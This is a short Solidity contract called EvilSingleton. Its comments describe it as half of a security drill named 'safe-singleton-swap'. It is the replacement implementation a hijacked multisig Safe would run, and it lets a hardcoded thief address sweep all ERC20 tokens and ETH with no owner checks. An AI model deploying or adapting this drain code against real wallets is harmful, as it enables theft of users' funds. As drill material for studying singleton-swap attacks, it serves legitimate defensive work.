// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

/// @title The code a robbed Safe runs
/// @notice The second half of the drill `safe-singleton-swap`: no owners, no threshold, two ways out.
/// @dev The thief is an immutable, so it is part of the code; the Safe's storage means nothing here.
contract EvilSingleton {
    using SafeERC20 for IERC20;

    address private immutable _thief;

    error NotTheThief();

    constructor() {
        _thief = msg.sender;
    }

    receive() external payable {}

    function sweepERC20(IERC20 token, address to, uint256 amount) external {
        if (msg.sender != _thief) revert NotTheThief();
        token.safeTransfer(to, amount);
    }

    function sweepETH(address payable to, uint256 amount) external {
        if (msg.sender != _thief) revert NotTheThief();
        Address.sendValue(to, amount);
    }
}
